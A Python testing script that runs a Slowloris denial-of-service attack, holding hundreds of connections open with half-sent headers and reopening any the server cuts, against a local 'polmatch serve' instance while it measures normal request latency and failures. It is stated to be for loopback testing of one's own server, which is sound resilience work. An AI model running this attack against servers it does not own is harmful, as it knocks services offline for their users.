#!/usr/bin/env python3
"""Slowloris against `polmatch serve`, while a normal client is timed.

Opens N connections that each send half a request header and then one more header line every
INTERVAL seconds, never finishing it (reconnecting when the server closes one, as an attacker
would). Meanwhile a normal client sends PROBES requests for PATH one after another, each on a new
connection with a TIMEOUT, and the script prints their latency (p50/p99/max) and how many failed.

  tools/scripts/slowloris.py --port 8080 --connections 200 --probes 200 --path /healthz
Loopback testing of your own server only.
"""
import argparse
import socket
import threading
import time


def percentile(sorted_values, p):
    if not sorted_values:
        return float("nan")
    return sorted_values[min(len(sorted_values) - 1, int(len(sorted_values) * p))]


def open_loris(host, port):
    s = socket.create_connection((host, port), timeout=5)
    s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
    return s


def loris(host, port, count, interval, stop, stats):
    socks = []
    for _ in range(count):
        try:
            socks.append(open_loris(host, port))
        except OSError:
            stats["refused"] += 1
    stats["opened"] = len(socks)
    tick = 0
    while not stop.is_set():
        tick += 1
        for i, s in enumerate(socks):
            try:
                s.sendall(b"X-%d: a\r\n" % tick)
            except OSError:
                stats["cut"] += 1
                try:
                    s.close()
                    socks[i] = open_loris(host, port)
                except OSError:
                    pass
        stop.wait(interval)
    for s in socks:
        s.close()


def probe(host, port, path, timeout):
    start = time.perf_counter()
    with socket.create_connection((host, port), timeout=timeout) as s:
        s.sendall(b"GET %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n" % path.encode())
        data = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    if not data.startswith(b"HTTP/1.1 200"):
        raise OSError("answer: %r" % data[:40])
    return time.perf_counter() - start


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, default=8080)
    ap.add_argument("--connections", type=int, default=200)
    ap.add_argument("--interval", type=float, default=1.0, help="seconds between header lines")
    ap.add_argument("--probes", type=int, default=200)
    ap.add_argument("--path", default="/healthz")
    ap.add_argument("--timeout", type=float, default=5.0, help="a probe's timeout, seconds")
    ap.add_argument("--give-up", type=int, default=10, help="stop probing after this many failures")
    args = ap.parse_args()

    stop = threading.Event()
    stats = {"opened": 0, "refused": 0, "cut": 0}
    t = threading.Thread(target=loris, args=(args.host, args.port, args.connections, args.interval, stop, stats))
    t.start()
    while stats["opened"] == 0 and stats["refused"] < args.connections and t.is_alive():
        time.sleep(0.05)
    time.sleep(1.0)  # let the slow connections settle in
    latencies, failures = [], 0
    for _ in range(args.probes):
        try:
            latencies.append(probe(args.host, args.port, args.path, args.timeout))
        except OSError:
            failures += 1
            if failures >= args.give_up:
                break
        time.sleep(0.01)
    stop.set()
    t.join()
    latencies.sort()
    ms = lambda v: "%.2f ms" % (v * 1000)
    print("slowloris: %d connections open (%d refused, %d cut by the server and reopened); "
          "%s x%d answered: p50 %s, p99 %s, max %s, failed %d"
          % (stats["opened"], stats["refused"], stats["cut"], args.path, len(latencies),
             ms(percentile(latencies, 0.5)), ms(percentile(latencies, 0.99)),
             ms(latencies[-1]) if latencies else "-", failures))


if __name__ == "__main__":
    main()
